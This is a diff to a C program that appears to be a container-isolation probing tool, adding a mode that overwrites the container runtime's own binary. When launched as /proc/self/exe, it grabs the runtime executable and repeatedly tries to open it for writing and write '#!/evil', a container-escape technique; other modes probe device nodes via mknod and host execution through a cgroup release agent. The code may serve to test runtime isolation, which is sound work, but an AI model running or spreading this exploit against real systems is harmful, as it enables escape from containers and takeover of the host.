@@ -4,6 +4,7 @@
  *   exchange A B            swaps two names for ever
  *   executables             for ever: gets hold of every process's executable that is not of the container, and tries to
  *                           write to it; prints each new outcome
+ *   overwrite FD            does that to one
  *   descriptors [PID]       one line per open descriptor: number, kind, device, access, what it leads to
  *   paths PATH...           one line per path: what is there, and of which device
  *   release-agent           tries to have the kernel start a program on the host when a cgroup empties
@@ -24,6 +25,7 @@
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 #ifndef RENAME_EXCHANGE
@@ -63,18 +65,16 @@ static void tell_once(const char *what, const char *how)
 	}
 }
 
-/* While it runs nobody can write to it: so it is tried until it does not. */
+/* While it runs nobody can write to it: so it is tried for a while. Another mode can be given to it at any time. */
 static void overwrite(int fd)
 {
+	time_t until = time(NULL) + 2;
 	char path[32];
-	int out = -1;
+	int out;
 
 	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
-	for (int i = 0; i < 20000 && out < 0; i++) {
-		out = open(path, O_WRONLY | O_CLOEXEC);
-		if (out < 0 && errno != ETXTBSY)
-			break;
-	}
+	while ((out = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && time(NULL) < until)
+		sched_yield();
 	tell_once("open", outcome(out));
 	if (out >= 0)
 		tell_once("write", outcome(write(out, "#!/evil\n", 8)));
@@ -320,8 +320,10 @@ static int calls(void)
 static int node(const char *type, const char *major_text, const char *minor_text)
 {
 	mode_t mode = (*type == 'b' ? S_IFBLK : S_IFCHR) | 0600;
-	int made = mknod("/tmp/node", mode, makedev((unsigned)atoi(major_text), (unsigned)atoi(minor_text)));
-	int fd;
+	int made, fd;
+
+	unlink("/tmp/node");
+	made = mknod("/tmp/node", mode, makedev((unsigned)atoi(major_text), (unsigned)atoi(minor_text)));
 
 	printf("mknod: %s\n", outcome(made));
 	fd = open("/tmp/node", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
@@ -347,9 +349,25 @@ static int trace(pid_t pid)
 	return 0;
 }
 
+/* As the loader of the runtime itself, started once more in the container: its file is to be had by /proc/self/exe. */
+static int as_loader(void)
+{
+	char number[16];
+
+	snprintf(number, sizeof(number), "%d", open("/proc/self/exe", O_PATH));
+	return execl("/bin/attacker", "attacker", "overwrite", number, NULL);
+}
+
 int main(int argc, char **argv)
 {
 	const char *what = argc > 1 ? argv[1] : "";
+
+	if (argc && !strcmp(argv[0], "/proc/self/exe"))
+		return as_loader();
+	if (!strcmp(what, "overwrite") && argc == 3) {
+		overwrite(atoi(argv[2]));
+		return 0;
+	}
 
 	if (!strcmp(what, "exchange") && argc == 4)
 		return exchange(argv[2], argv[3]);
